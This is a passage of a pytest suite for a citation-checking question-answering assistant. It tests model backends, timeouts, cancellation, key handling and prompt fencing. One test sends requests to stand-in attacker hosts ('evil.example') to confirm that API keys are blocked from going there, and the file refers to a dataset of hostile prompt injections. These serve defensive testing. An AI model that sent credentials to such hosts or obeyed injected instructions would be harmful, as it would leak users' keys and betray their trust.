"""Language models, good and bad: whatever one writes, what comes out is right or clearly marked."""

from __future__ import annotations

import json
import re
import socket
import subprocess
import sys
import threading
import urllib.request
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from itertools import zip_longest
from pathlib import Path
from time import monotonic, sleep
from typing import Any

import httpx
import pytest
from conftest import ROOT, SMALL_WORDS, transcript
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rag.answer.markers import MarkerStream, number_markers
from rag.archive import Archive, open_archive
from rag.assistant import MAX_QUESTION_CHARS, Assistant
from rag.errors import Cancelled, GeneratorError, GeneratorTimeout, InputError
from rag.generators import GENERATORS, GenerationRequest, Generator, NumberedPassage, load_generator
from rag.generators.anthropic import ANTHROPIC
from rag.generators.cancel import CancelToken, with_deadline
from rag.generators.openai_compatible import OPENAI
from rag.generators.prompts import REFUSAL, build_messages, rewrite_messages
from rag.generators.providers import Provider, endpoint, guarded_client
from rag.text.tokens import estimate_tokens
from rag.types import Answer, Filters, Passage, Sentence

pytest.importorskip("openai", reason="the openai package is not installed")

GATES = "When will the gates move?"
INJECTIONS = ROOT.parent / "shared" / "data" / "hostile" / "prompt-injections.jsonl"


class Says:
    """A model that says what it is told to, numbering as language models do."""

    numbering = "sentences"

    def __init__(self, *pieces: str) -> None:
        self.pieces = pieces
        self.requests: list[GenerationRequest] = []

    def generate(self, request: GenerationRequest) -> Iterator[str]:
        self.requests.append(request)
        yield from self.pieces


@pytest.fixture(scope="module")
def server() -> Iterator[str]:
    with socket.create_server(("127.0.0.1", 0)) as probe:
        port = probe.getsockname()[1]
    command = [sys.executable, str(Path(__file__).with_name("fake_model_server.py")), str(port)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == "ready\n"
        yield f"http://127.0.0.1:{port}"
        process.terminate()


ADDRESSES = {"openai": "/v1", "anthropic": ""}  # what follows a server's host and port
BOTH = pytest.mark.parametrize("generator", ADDRESSES)


def answer_of(
    archive: Archive, server: str, model: str, *, generator: str = "openai", question: str = GATES, **options: Any
) -> Answer:
    pytest.importorskip(generator, reason=f"the {generator} package is not installed")
    reached = {"model": model, "base_url": f"{server}{ADDRESSES[generator]}"}
    return Assistant(archive, generator=generator, options=reached, **options).ask(question)


def seen_by(server: str) -> list[dict[str, Any]]:
    with urllib.request.urlopen(f"{server}/seen") as seen:
        return list(json.loads(seen.read())["seen"])


def assert_sound(archive: Archive, answer: Answer) -> None:
    """What holds for every answer, whoever wrote it."""
    offered = {(hit.passage.document_id, hit.passage.start, hit.passage.end) for hit in answer.passages}
    for citation in answer.citations:
        assert archive.document(citation.document_id).text[citation.start : citation.end] == citation.quote
        assert citation.verified
        assert any(d == citation.document_id and a <= citation.start and citation.end <= z for d, a, z in offered)
    numbers = {citation.marker for citation in answer.citations}
    assert {number for _, _, number in answer.markers} == numbers
    for start, end, number in answer.markers:
        assert answer.text[start:end] == f"[{number}]"
    for before, after in zip(answer.claims, answer.claims[1:], strict=False):
        assert before.end <= after.start


@BOTH
def test_a_good_model_is_quoted_from_the_record_and_borne_out(bundled: Archive, server: str, generator: str) -> None:
    answer = answer_of(bundled, server, "well", generator=generator)
    assert_sound(bundled, answer)
    assert (answer.generator, answer.note) == (generator, "")
    assert [claim.support for claim in answer.claims] == ["supported"]
    assert answer.citations[0].quote in answer.text


def test_a_models_own_typography_becomes_the_documents(bundled: Archive, server: str) -> None:
    answer = answer_of(bundled, server, "curly")
    assert_sound(bundled, answer)
    assert answer.citations[0].quote in answer.text
    assert "’" not in answer.text


@BOTH
def test_wrong_numbers_are_removed_and_counted(bundled: Archive, server: str, generator: str) -> None:
    answer = answer_of(bundled, server, "wrong-numbers", generator=generator)
    assert_sound(bundled, answer)
    assert answer.dangling == 5
    assert answer.text.startswith("It is so. And so. ")
    assert [claim.support for claim in answer.claims] == ["uncited", "uncited", "supported"]


@BOTH
def test_an_invented_quotation_is_marked(bundled: Archive, server: str, generator: str) -> None:
    answer = answer_of(bundled, server, "invents", generator=generator)
    assert_sound(bundled, answer)
    assert [(claim.support, claim.reason) for claim in answer.claims] == [
        ("unsupported", "the words in quotation marks do not stand in the record")
    ]


def test_words_put_into_another_mouth_and_new_numbers_are_marked(bundled: Archive, server: str) -> None:
    answer = answer_of(bundled, server, "numbers")
    assert [(claim.support, claim.reason) for claim in answer.claims] == [
        ("unsupported", "1066 stands in none of the cited sentences")
    ]
    (hit, *_) = answer.passages
    others = [name for name in bundled.speakers() if name.split()[-1] != hit.passage.speaker.split()[-1]]
    said = Says(f"{others[0]} said that it is so [1.1].")
    (claim,) = Assistant(bundled, generator=said).ask(GATES).claims
    assert claim.support == "unsupported"
    assert claim.reason == f"the cited words are {hit.passage.speaker}'s, not {others[0]}'s"


def test_a_whole_passage_cited_becomes_the_sentence_that_holds_the_words(bundled: Archive, server: str) -> None:
    answer = answer_of(bundled, server, "whole-passages")
    assert_sound(bundled, answer)
    assert answer.text == f"{answer.citations[0].quote} [1]"


@BOTH
def test_a_model_that_finds_nothing_gives_not_on_record(bundled: Archive, server: str, generator: str) -> None:
    answer = answer_of(bundled, server, "refuses", generator=generator)
    assert (answer.status, answer.citations) == ("not_on_record", ())
    assert REFUSAL not in answer.text
    pieces = [piece for piece in Assistant(bundled, generator=Says("NOT ", "ON REC", "ORD.")).stream(GATES)]
    assert [piece for piece in pieces if isinstance(piece, str)] == [answer.text]


@BOTH
@pytest.mark.parametrize(
    ("model", "reason"),
    [
        ("429", "127.0.0.1: too many requests, or the quota is used up"),
        ("500", "127.0.0.1: it answered with status 500"),
        ("says-nothing", "it wrote nothing"),
        ("redirects", "127.0.0.1: it answered with status 307"),
        ("hangs", "no complete answer within 2 s"),
        ("trickles", "no complete answer within 2 s"),
        ("nonsense", None),
        ("bad-json", None),
        ("cuts-off", "127.0.0.1: it broke off in mid-answer"),
        ("never-ends", "127.0.0.1: it broke off in mid-answer"),
        ("overloaded", "127.0.0.1: it broke off in mid-answer"),
    ],
)
def test_where_a_model_fails_the_record_is_quoted_and_the_note_says_why(
    bundled: Archive, server: str, model: str, reason: str | None, generator: str
) -> None:
    limit = 2 if model in ("hangs", "trickles") else 30
    answer = answer_of(bundled, server, model, generator=generator, timeout_s=limit)
    assert_sound(bundled, answer)
    assert answer.text == Assistant(bundled).ask(GATES).text
    assert answer.generator == "extractive"
    assert answer.note.startswith(f"The {generator} generator did not answer (")
    assert answer.note.endswith("). These are quotes from the record instead.")
    if reason:
        assert reason in answer.note


@BOTH
def test_a_refusal_for_the_moment_is_tried_again(bundled: Archive, server: str, generator: str) -> None:
    before = len(seen_by(server))
    assert answer_of(bundled, server, f"429-once-{generator}", generator=generator).generator == generator
    assert len(seen_by(server)) == before + 2


def test_a_model_that_takes_no_temperature_is_asked_without_one(bundled: Archive, server: str) -> None:
    answer = answer_of(bundled, server, "thinks")
    assert (answer.generator, answer.note) == ("openai", "")
    first, second = (request["body"] for request in seen_by(server)[-2:])
    assert (first["max_tokens"], first["temperature"]) == (800, 0)
    assert second["max_completion_tokens"] == 4800
    assert not {"max_tokens", "temperature"} & second.keys()


@BOTH
def test_a_servers_time_is_the_answers(bundled: Archive, generator: str) -> None:
    pytest.importorskip(generator, reason=f"the {generator} package is not installed")
    options = {"model": "x", "base_url": "http://127.0.0.1:1"}
    assistant = Assistant(bundled, generator=generator, options=options, timeout_s=300)
    assert assistant._generator._client.timeout == 300  # type: ignore[attr-defined]


@BOTH
def test_a_server_that_is_not_there_is_told(bundled: Archive, generator: str) -> None:
    with socket.create_server(("127.0.0.1", 0)) as probe:
        nobody = f"http://127.0.0.1:{probe.getsockname()[1]}"
    answer = answer_of(bundled, nobody, "well", generator=generator)
    assert "(127.0.0.1: it cannot be reached; is it running?)" in answer.note


@pytest.mark.parametrize(
    ("generator", "header", "form"), [("openai", "authorization", "Bearer {}"), ("anthropic", "x-api-key", "{}")]
)
def test_a_key_goes_to_its_own_provider_alone(
    bundled: Archive, server: str, monkeypatch: pytest.MonkeyPatch, generator: str, header: str, form: str
) -> None:
    for name, value in {
        "OPENAI_API_KEY": "sk-secret-1", "OPENAI_ORG_ID": "org-secret-2", "OPENAI_PROJECT_ID": "proj-secret-3",
        "ANTHROPIC_API_KEY": "sk-secret-4", "ANTHROPIC_AUTH_TOKEN": "secret-5",
        "OPENAI_BASE_URL": "http://localhost:1", "ANTHROPIC_BASE_URL": "http://localhost:1",
        "OPENAI_CUSTOM_HEADERS": "Authorization: Bearer secret-6\nX-Api-Key: secret-7",
        "ANTHROPIC_CUSTOM_HEADERS": "Authorization: Bearer secret-8\nX-Api-Key: secret-9",
    }.items():  # fmt: skip
        monkeypatch.setenv(name, value)
    credentials = {"authorization", "x-api-key"}
    answer_of(bundled, server, "well", generator=generator)
    request = seen_by(server)[-1]
    assert "secret" not in json.dumps(request)
    assert credentials & request["headers"].keys() == set()
    monkeypatch.setenv("ONRECORD_API_KEY", "own-key\n")
    answer_of(bundled, server, "well", generator=generator)
    request = seen_by(server)[-1]
    assert "secret" not in json.dumps(request)
    assert {name: request["headers"][name] for name in credentials & request["headers"].keys()} == {
        header: form.format("own-key")
    }


@pytest.mark.parametrize(
    ("provider", "header", "sent"), [(OPENAI, "authorization", "Bearer sk-mine"), (ANTHROPIC, "x-api-key", "sk-mine")]
)
def test_a_provider_gets_its_own_key_over_https_and_nobody_else_does(
    monkeypatch: pytest.MonkeyPatch, provider: Provider, header: str, sent: str
) -> None:
    monkeypatch.setenv(provider.variable, "sk-mine")
    to = endpoint(provider, None, default=f"https://{provider.host}/v1")
    assert "sk-mine" not in repr(to)
    client = guarded_client(httpx.Client, to)
    (check,) = client.event_hooks["request"]
    request = httpx.Request("POST", f"https://{provider.host}/v1", headers={"Authorization": "x", "X-Api-Key": "y"})
    check(request)
    assert {name: request.headers.get(name) for name in ("authorization", "x-api-key")} == {
        "authorization": None, "x-api-key": None, header: sent
    }  # fmt: skip
    for elsewhere in (f"https://{provider.host}.evil.example/v1", "https://evil.example/v1", "http://[::1]/v1"):
        with pytest.raises(GeneratorError, match="was stopped: only"):
            check(httpx.Request("POST", elsewhere))


@pytest.mark.parametrize("key", ["sk mine", "sk-ключ", "sk-\x1bmine"])
def test_a_key_that_no_header_can_hold_is_told_without_repeating_it(monkeypatch: pytest.MonkeyPatch, key: str) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", key)
    with pytest.raises(InputError) as caught:
        load_generator("openai", {"model": "x"})
    assert str(caught.value) == "OPENAI_API_KEY holds no key: a key is one word of plain letters, digits and signs"


@pytest.mark.parametrize(
    ("options", "told"),
    [
        ({"base_url": "localhost:11434"}, "is no address; write it as http://"),
        ({"base_url": "http://localhost:port/v1"}, "is no address; write it as http://"),
        ({"base_url": "http://localhost:99999/v1"}, "is no address; write it as http://"),
        ({"base_url": "http://[::1/v1"}, "is no address; write it as http://"),
        ({"base_url": "http://local\nhost/v1"}, "is no address; write it as http://"),
        ({"base_url": "http://local host/v1"}, "is no address; write it as http://"),
        ({"base_url": "http://me:pw@localhost/v1"}, "must not hold a password"),
        ({"base_url": "http://api.openai.com/v1"}, "would send a key unencrypted"),
        ({}, "set OPENAI_API_KEY"),
    ],
)
def test_an_address_that_cannot_be_used_is_told(
    monkeypatch: pytest.MonkeyPatch, options: dict[str, str], told: str
) -> None:
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    with pytest.raises(InputError, match=told):
        load_generator("openai", options)


def test_an_option_that_a_generator_does_not_take_is_told() -> None:
    with pytest.raises(InputError, match="the extractive generator uses no model; leave out --model llama"):
        load_generator("extractive", {"model": "llama", "base_url": None})


@BOTH
def test_a_follow_up_is_rewritten_as_one_more_leg(bundled: Archive, server: str, generator: str) -> None:
    options = {"model": "rewrites", "base_url": f"{server}{ADDRESSES[generator]}"}
    answer = Assistant(bundled, generator=generator, options=options).ask("And the first one?", history=[GATES])
    assert answer.searched == (
        "And the first one?", f"{GATES} And the first one?", "When will the first gate be lowered?"
    )  # fmt: skip
    alone = Assistant(bundled, generator=generator, options=options).ask("And the first one?")
    assert alone.searched == ("And the first one?",)


class Rewrites(Says):
    """Says one thing, and rewrites a follow-up in its own way."""

    def __init__(self, rewrite: Callable[[], Any]) -> None:
        super().__init__("So it is [1.1].")
        self._rewrite = rewrite

    def rewrite(self, question: str, history: Sequence[str]) -> Any:
        return self._rewrite()


def raises() -> str:
    raise RuntimeError("secret detail")


@pytest.mark.parametrize(
    "rewrite",
    [raises, lambda: "", lambda: " \n ", lambda: None, lambda: ["And the first one?"], lambda: "And the first one?"],
    ids=["it raises", "it is empty", "it is blank", "it is none", "it is a list", "it is the question"],
)
def test_a_rewrite_that_is_none_changes_nothing(bundled: Archive, rewrite: Callable[[], Any]) -> None:
    plain = Assistant(bundled).ask("And the first one?", history=[GATES])
    answer = Assistant(bundled, generator=Rewrites(rewrite)).ask("And the first one?", history=[GATES])
    assert (answer.searched, answer.query) == (plain.searched, plain.query)
    assert [hit.passage.id for hit in answer.passages] == [hit.passage.id for hit in plain.passages]
    assert (answer.generator, answer.note, "secret" in answer.text) == ("Rewrites", "", False)


def test_a_rewrite_that_takes_too_long_is_left_out(bundled: Archive, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("rag.assistant.REWRITE_TIMEOUT_S", 0.05)
    never = threading.Event()
    answer = Assistant(bundled, generator=Rewrites(never.wait)).ask("And the first one?", history=[GATES])
    assert answer.searched == ("And the first one?", f"{GATES} And the first one?")
    assert (answer.generator, answer.note) == ("Rewrites", "")
    never.set()


@BOTH
def test_a_rewrite_takes_its_time_from_the_answers(bundled: Archive, server: str, generator: str) -> None:
    pytest.importorskip(generator, reason=f"the {generator} package is not installed")
    options = {"model": "hangs", "base_url": f"{server}{ADDRESSES[generator]}"}
    assistant = Assistant(bundled, generator=generator, options=options, timeout_s=2)
    started = monotonic()
    answer = assistant.ask("And the first one?", history=[GATES])
    assert monotonic() - started < 3
    assert "(no complete answer within 2 s)" in answer.note


def test_a_rewrite_of_any_length_and_kind_is_one_line_of_a_questions_length(bundled: Archive) -> None:
    wild = Rewrites(lambda: "When\n\nwill \udcff it " + "move " * 5000)
    answer = Assistant(bundled, generator=wild).ask("And the first one?", history=[GATES])
    assert answer.searched[:2] == ("And the first one?", f"{GATES} And the first one?")
    assert answer.searched[2].startswith("When will ? it move move ")
    assert len(answer.searched[2]) <= MAX_QUESTION_CHARS


def test_what_filters_leave_out_is_never_shown_to_a_model(bundled: Archive, server: str) -> None:
    assistant = Assistant(bundled, generator="openai", options={"model": "parrots", "base_url": f"{server}/v1"})
    answer = assistant.ask(GATES, filters=Filters(speaker=("Henrike Vaal",)))
    shown = set(re.findall(r"speaker: ([^|\n]+?) \|", answer.text))
    assert shown <= {"Henrike Vaal", "Mayor Henrike Vaal"}
    assert_sound(bundled, answer)


def test_strict_keeps_what_is_borne_out_and_says_what_went(bundled: Archive) -> None:
    text = "It will rain gold in Paris [1.1]."
    first = Assistant(bundled, generator=Says("x [1.1]")).ask(GATES).citations[0].quote
    answer = Assistant(bundled, generator=Says(f"{first} [1.1] {text}"), strict=True).ask(GATES)
    assert answer.text == f"{first} [1]"
    assert answer.note == "1 of 2 sentences were left out: their citations do not bear them out."
    assert_sound(bundled, answer)
    nothing = Assistant(bundled, generator=Says(text), strict=True).ask(GATES)
    assert nothing.text == Assistant(bundled).ask(GATES).text
    assert "nothing that it wrote is borne out" in nothing.note


@pytest.mark.parametrize("text", ["[9.9]", "[1.1]", "***", "“”", " [1.1], [2.1]. ", "\n"])
@pytest.mark.parametrize("strict", [False, True])
def test_a_model_that_writes_no_word_has_written_nothing(bundled: Archive, text: str, strict: bool) -> None:
    answer = Assistant(bundled, generator=Says(text), strict=strict).ask(GATES)
    assert (answer.text, answer.generator) == (Assistant(bundled).ask(GATES).text, "extractive")
    assert "(it wrote nothing)" in answer.note


@pytest.mark.parametrize(
    "text",
    [
        "**NOT ON RECORD**",
        "NOT ON RECORD. The passages do not mention it.",
        "NOT ON RECORD\n\nThe record is silent [1.1].",
        "Not on record: nobody said so.",
        "“NOT ON RECORD” [1.1]",
    ],
)
def test_a_model_that_refuses_and_says_more_has_refused(bundled: Archive, text: str) -> None:
    *pieces, answer = Assistant(bundled, generator=Says(*text)).stream(GATES)
    assert isinstance(answer, Answer)
    assert (answer.status, answer.citations, pieces) == ("not_on_record", (), [answer.text])
    assert answer.text.startswith("Not on record: nothing in the ")


def test_what_only_begins_like_a_refusal_is_an_answer(bundled: Archive) -> None:
    answer = Assistant(bundled, generator=Says("Not on record is what the gates cost [1.1].")).ask(GATES)
    assert (answer.status, answer.text) == ("answered", "Not on record is what the gates cost [1].")


def test_a_generator_that_raises_in_mid_stream_is_stood_in_for(bundled: Archive) -> None:
    class Breaks:
        numbering = "sentences"

        def generate(self, request: GenerationRequest) -> Iterator[str]:
            yield "The gates "
            raise RuntimeError("secret detail")

    answer = Assistant(bundled, generator=Breaks()).ask(GATES)
    assert answer.note == (
        "The Breaks generator did not answer (it failed: RuntimeError). These are quotes from the record instead."
    )
    assert answer.text == Assistant(bundled).ask(GATES).text


# -- anything at all ------------------------------------------------------------------------------------------------

FRAGMENTS = st.one_of(
    st.sampled_from(
        [
            "[1.1]",
            "[2.3]",
            "[1.1, 2.1]",
            "[1.1-1.3]",
            "[1]",
            "[99]",
            "[0.0]",
            "[1.1][2.2]",
            "[ 1.1 ]",
            "[1.1",
            "1.1]",
            "[[1]]",
            "“",
            "”",
            '"',
            "«",
            "\n\n",
            ". ",
            "Henrike Vaal said: ",
            "the gates move",
            "In 2028 ",
            "[citation](#cite/a.1-2)",
            "NOT ON RECORD",
            "<a href='#cite/x'>[1]</a>",
            "…",
            "—",
        ]
    ),
    st.text(max_size=30),
    st.integers(min_value=0, max_value=400),
)


@given(st.lists(FRAGMENTS, max_size=14))
@settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_of_any_text_every_citation_is_exact_and_no_unknown_marker_survives(
    bundled: Archive, fragments: list[str | int]
) -> None:
    record = " ".join(hit.passage.text for hit in bundled.search(GATES, k=3))
    text = "".join(record[part : part + 60] if isinstance(part, int) else part for part in fragments)
    answer = Assistant(bundled, generator=Says(text)).ask(GATES)
    assert_sound(bundled, answer)
    known = {(start, end) for start, end, _ in answer.markers}
    quoted = [m.span() for c in answer.citations for m in re.finditer(re.escape(c.quote), answer.text)]
    quoted += [m.span() for h in answer.passages for m in re.finditer(r"\[\d+\]", h.passage.text)]
    for match in re.finditer(r"\[\d{1,3}(?:\.\d{1,3})?\]", answer.text):
        assert match.span() in known or any(a <= match.start() and match.end() <= z for a, z in quoted)


def test_half_a_character_in_a_models_text_is_no_fault(bundled: Archive) -> None:
    first = Assistant(bundled, generator=Says("x [1.1]")).ask(GATES).citations[0].quote
    # Some servers send a character in two pieces: 🌊 is \ud83c and \udf0a.
    pieces = ("Ah \ud83c", "\udf0a", " \ud83d. ", f"“{first} \udcff” [1.1]. ", first, " [1.1]", "\ud83d")
    *shown, answer = Assistant(bundled, generator=Says(*pieces)).stream(GATES)
    assert isinstance(answer, Answer)
    assert "".join(map(str, shown)).startswith("Ah 🌊 ?. ")
    assert_sound(bundled, answer)
    assert [claim.support for claim in answer.claims] == ["supported", "supported"]  # and the quotation is not cut
    assert answer.text.startswith(f"Ah 🌊 ?. “{first}")  # quoted as the record has it


@given(
    st.lists(st.text(alphabet="[]1239. ,\nab", max_size=6) | st.sampled_from(["[1.1]", "[2]", " [9.9]"]), max_size=30)
)
def test_markers_come_in_pieces_as_in_the_whole(pieces: list[str]) -> None:
    passages = [list(numbered("Ann paid.", "Twice.").sentences), list(numbered("Jo came.", document="e").sentences)]
    stream = MarkerStream(passages, choose=lambda sentences, _: sentences[0])
    shown = "".join(map(stream.add, pieces)) + stream.end()
    whole = number_markers("".join(pieces), passages, choose=lambda sentences, _: sentences[0]).text
    assert shown.split() == whole.split()


def test_a_generator_that_wants_to_end_the_process_is_stood_in_for(bundled: Archive) -> None:
    class Exits:
        numbering = "sentences"

        def generate(self, request: GenerationRequest) -> Iterator[str]:
            yield "The gates "
            sys.exit(3)

        def rewrite(self, question: str, history: Sequence[str]) -> str:
            sys.exit(3)

    answer = Assistant(bundled, generator=Exits()).ask("And the first one?", history=[GATES])
    assert (answer.generator, "(it failed: RuntimeError)" in answer.note) == ("extractive", True)


def test_what_comes_in_very_many_pieces_is_not_read_again_for_each(bundled: Archive) -> None:
    pieces = ["The gates ", "move ", "[1", ".1] ", "[9.9] "] * 700
    started = monotonic()
    answer = Assistant(bundled, generator=Says(*pieces), timeout_s=20).ask(GATES)
    assert (answer.generator, answer.dangling, monotonic() - started < 10) == ("Says", 700, True)


def test_a_model_that_does_not_stop_is_stood_in_for(bundled: Archive) -> None:
    class Endless:
        numbering = "sentences"

        def generate(self, request: GenerationRequest) -> Iterator[str]:
            while True:
                yield "The gates move [1.1]. " * 50

    answer = Assistant(bundled, generator=Endless(), timeout_s=20).ask(GATES)
    assert answer.note == (
        "The Endless generator did not answer (it wrote more than 20,000 characters). These are quotes from the record instead."
    )


# -- as it comes ----------------------------------------------------------------------------------------------------


def test_the_first_piece_is_shown_before_the_model_writes_the_second(bundled: Archive) -> None:
    shown = threading.Event()

    class Waits:
        numbering = "sentences"

        def generate(self, request: GenerationRequest) -> Iterator[str]:
            yield "The gates"
            assert shown.wait(30), "the first piece was held back"
            yield " move [1.1]."

    pieces = []
    for piece in Assistant(bundled, generator=Waits()).stream(GATES):
        pieces.append(piece)
        shown.set()
    assert pieces[0] == "The gates"
    assert isinstance(pieces[-1], Answer)
    assert pieces[-1].generator == "Waits"  # and not the record in its stead


# -- nobody waits any more ------------------------------------------------------------------------------------------------


def noted_of(server: str, model: str) -> list[bool | None]:
    """For each request of this model, and each that its client left, whether it is the latter; looked at for 5 seconds."""
    noted: list[bool | None] = []
    for _ in range(100):
        noted = [one.get("gone") for one in seen_by(server) if one["body"]["model"] == model]
        if True in noted:
            sleep(1)  # for another try, which there must not be
            return [one.get("gone") for one in seen_by(server) if one["body"]["model"] == model]
        sleep(0.05)
    return noted


@BOTH
@pytest.mark.parametrize("model", ["waits", "waits-at-once"])
def test_a_model_that_keeps_one_waiting_is_stopped_by_cancelling(
    bundled: Archive, server: str, generator: str, model: str
) -> None:
    pytest.importorskip(generator, reason=f"the {generator} package is not installed")
    options = {"model": f"{model}-{generator}", "base_url": f"{server}{ADDRESSES[generator]}"}
    cancel = CancelToken()
    threading.Timer(1, cancel.cancel).start()
    started = monotonic()
    shown: list[str | Answer] = []
    with pytest.raises(Cancelled):
        shown.extend(Assistant(bundled, generator=generator, options=options).stream(GATES, cancel=cancel))
    assert monotonic() - started < 2
    assert "" not in shown
    assert "".join(map(str, shown)) == (
        "" if model == "waits-at-once" else {"openai": "The gates move", "anthropic": "The"}[generator]
    )
    assert noted_of(server, options["model"]) == [None, True]


@BOTH
def test_closing_the_stream_stops_the_model(bundled: Archive, server: str, generator: str) -> None:
    pytest.importorskip(generator, reason=f"the {generator} package is not installed")
    options = {"model": f"waits-closed-{generator}", "base_url": f"{server}{ADDRESSES[generator]}"}
    pieces = Assistant(bundled, generator=generator, options=options).stream(GATES)
    assert next(pieces)
    pieces.close()  # type: ignore[attr-defined]
    assert noted_of(server, options["model"]) == [None, True]


@BOTH
def test_a_rewrite_that_keeps_one_waiting_is_stopped_by_cancelling(
    bundled: Archive, server: str, generator: str
) -> None:
    pytest.importorskip(generator, reason=f"the {generator} package is not installed")
    options = {"model": f"waits-at-once-rewrite-{generator}", "base_url": f"{server}{ADDRESSES[generator]}"}
    cancel = CancelToken()
    threading.Timer(0.5, cancel.cancel).start()
    started = monotonic()
    with pytest.raises(Cancelled):
        Assistant(bundled, generator=generator, options=options).ask("And it?", history=[GATES], cancel=cancel)
    assert monotonic() - started < 2
    assert noted_of(server, options["model"]) == [None, True]


def test_a_question_that_was_cancelled_before_is_not_put_to_a_model(bundled: Archive) -> None:
    says, cancel = Says("So it is [1.1]."), CancelToken()
    cancel.cancel()
    with pytest.raises(Cancelled, match="nobody waits for this answer any more"):
        Assistant(bundled, generator=says).ask(GATES, cancel=cancel)
    assert says.requests == []


@BOTH
def test_a_model_that_is_late_is_hung_up_on_and_not_asked_again(bundled: Archive, server: str, generator: str) -> None:
    model = f"waits-at-once-late-{generator}"
    answer = answer_of(bundled, server, model, generator=generator, timeout_s=1)
    assert "(no complete answer within 1 s)" in answer.note
    assert noted_of(server, model) == [None, True]


@BOTH
def test_a_rewrite_that_is_late_is_hung_up_on(bundled: Archive, server: str, generator: str) -> None:
    pytest.importorskip(generator, reason=f"the {generator} package is not installed")
    options = {"model": f"waits-at-once-again-{generator}", "base_url": f"{server}{ADDRESSES[generator]}"}
    Assistant(bundled, generator=generator, options=options, timeout_s=1).ask("And the first one?", history=[GATES])
    assert noted_of(server, options["model"]).count(True) == 2


def test_closing_calls_what_the_generator_registered() -> None:
    stopped = threading.Event()

    def waits(token: CancelToken) -> Iterator[str]:
        token.on_cancel(stopped.set)
        yield "one"
        assert stopped.wait(5)

    pieces = with_deadline(waits, timeout_s=5)
    assert (next(pieces), stopped.is_set()) == ("one", False)
    pieces.close()
    assert stopped.is_set()


def test_a_deadline_cancels_the_generator_and_not_whoever_asked() -> None:
    stopped, cancel = threading.Event(), CancelToken()

    def waits(token: CancelToken) -> Iterator[str]:
        token.on_cancel(stopped.set)
        stopped.wait(5)
        yield "late"

    with pytest.raises(GeneratorTimeout, match=r"no complete answer within 0\.05 s"):
        list(with_deadline(waits, timeout_s=0.05, cancel=cancel))
    assert (stopped.wait(5), cancel.is_cancelled) == (True, False)


def test_a_callback_is_called_once_and_at_once_if_it_is_late() -> None:
    calls: list[str] = []
    token = CancelToken()

    def fails() -> None:
        raise OSError("the socket is closed")

    token.on_cancel(fails)
    token.on_cancel(lambda: calls.append("early"))
    part = token.child()
    part.on_cancel(lambda: calls.append("child"))
    token.cancel()
    token.cancel()
    token.on_cancel(lambda: calls.append("late"))
    token.on_cancel(fails)
    assert (calls, part.is_cancelled) == (["early", "child", "late"], True)
    alone = CancelToken()
    alone.child().cancel()
    assert not alone.is_cancelled


def test_what_waits_to_be_read_is_dropped_when_it_is_cancelled() -> None:
    cancel = CancelToken()

    def fast(token: CancelToken) -> Iterator[str]:
        while True:
            yield "word "

    pieces = with_deadline(fast, timeout_s=5, cancel=cancel)
    assert next(pieces) == "word "
    sleep(0.1)  # until the queue is full
    cancel.cancel()
    with pytest.raises(Cancelled):
        next(pieces)


def test_what_is_no_text_is_no_piece() -> None:
    with pytest.raises(TypeError, match="a generator yields text, not NoneType"):
        list(with_deadline(lambda token: iter(["one", None]), timeout_s=5))  # type: ignore[list-item]


# -- prompts --------------------------------------------------------------------------------------------------------


def numbered(*texts: str, asked: str = "", speaker: str = "Ann Reed", document: str = "d") -> NumberedPassage:
    passage = Passage(
        f"{document}-0", document, "talk.txt", speaker, "respondent", asked, 0, sum(map(len, texts)), "".join(texts)
    )
    sentences, start = [], 0
    for text in texts:
        sentences.append(Sentence(passage, start, start + len(text), text, 1.0))
        start += len(text)
    return NumberedPassage(passage, tuple(sentences))


def test_the_prompt_fences_and_numbers_every_sentence() -> None:
    request = GenerationRequest("Who paid?", ("Why?",), (), (numbered("I paid.", "Twice.", asked="Who\npaid?"),))
    system, user = build_messages(request, max_tokens=2000, count_tokens=estimate_tokens, fence="=== RECORD x ===")
    assert REFUSAL in system["content"]
    assert user["content"] == (
        "The record, between the two lines that say === RECORD x ===:\n\n=== RECORD x ===\n"
        "Passage 1 | speaker: Ann Reed\nasked: Who paid?\n[1.1] I paid.\n[1.2] Twice.\n=== RECORD x ===\n\n"
        "Earlier question: Why?\nQuestion: Who paid?"
    )


def test_passages_are_left_out_from_the_weakest_on_where_the_prompt_is_full() -> None:
    passages = tuple(numbered(f"This is passage {number}. " + "word " * 200) for number in range(10))
    request = GenerationRequest("Who?", (), (), passages)
    full = build_messages(request, max_tokens=10_000, count_tokens=estimate_tokens)[1]["content"]
    some = build_messages(request, max_tokens=1_200, count_tokens=estimate_tokens)[1]["content"]
    assert re.findall(r"^Passage (\d+)", full, re.M) == [str(number) for number in range(1, 11)]
    kept = re.findall(r"^Passage (\d+)", some, re.M)
    assert kept == [str(number) for number in range(1, len(kept) + 1)]
    assert 1 <= len(kept) < 10
    assert (
        sum(
            estimate_tokens(m["content"])
            for m in build_messages(request, max_tokens=1_200, count_tokens=estimate_tokens)
        )
        <= 1_250
    )


@pytest.mark.parametrize("letters", ["word ", "海边的船在哪里", "¿"])
def test_a_long_conversation_leaves_room_for_the_passages(letters: str) -> None:
    long = (letters * MAX_QUESTION_CHARS)[:MAX_QUESTION_CHARS]
    passages = tuple(numbered(f"This is passage {number}. " + "word " * 100) for number in range(10))
    request = GenerationRequest("Who paid?", ("Why?", long, long, long), (), passages)
    messages = build_messages(request, max_tokens=6_000, count_tokens=estimate_tokens)
    content = messages[1]["content"]
    assert sum(estimate_tokens(message["content"]) for message in messages) <= 6_000
    assert len(re.findall(r"^Passage (\d+)", content, re.M)) == 10
    last = build_messages(replace(request, question=long), max_tokens=6_000, count_tokens=estimate_tokens)
    assert sum(estimate_tokens(message["content"]) for message in last) <= 6_000
    (rewriting,) = rewrite_messages(long, [long] * 5, max_tokens=6_000, count_tokens=estimate_tokens)
    assert estimate_tokens(rewriting["content"]) <= 6_000
    (rewriting,) = rewrite_messages("Why?", [long, long, "Who?"], max_tokens=6_000, count_tokens=estimate_tokens)
    assert rewriting["content"].endswith("\nQuestion: Who?\nLast question: Why?")


def injections() -> list[str]:
    if not INJECTIONS.is_file():
        pytest.skip("the prompt injections in ../shared/data/hostile are not on this machine")
